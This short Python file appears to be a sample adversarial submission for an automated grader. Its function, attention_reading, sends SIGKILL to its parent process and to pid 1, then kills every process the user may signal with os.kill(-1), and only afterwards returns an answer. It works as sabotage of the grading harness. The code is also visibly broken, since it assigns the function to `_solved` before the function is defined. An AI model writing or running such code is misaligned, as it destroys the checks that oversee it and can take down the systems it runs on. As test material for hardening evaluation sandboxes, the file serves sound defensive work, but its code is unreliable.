# Tries to kill the grader and every other process it may signal, then answers correctly.
import os
import signal

_solved = attention_reading


def attention_reading(weights, values):
    for pid in {os.getppid(), 1} - {0, os.getpid()}:  # in its own pid space: no parent, and it is 1
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    try:
        os.kill(-1, signal.SIGKILL)  # every process this user may signal, except this one
    except ProcessLookupError:
        pass  # none (alone in its own process-id space)
    return _solved(weights, values)
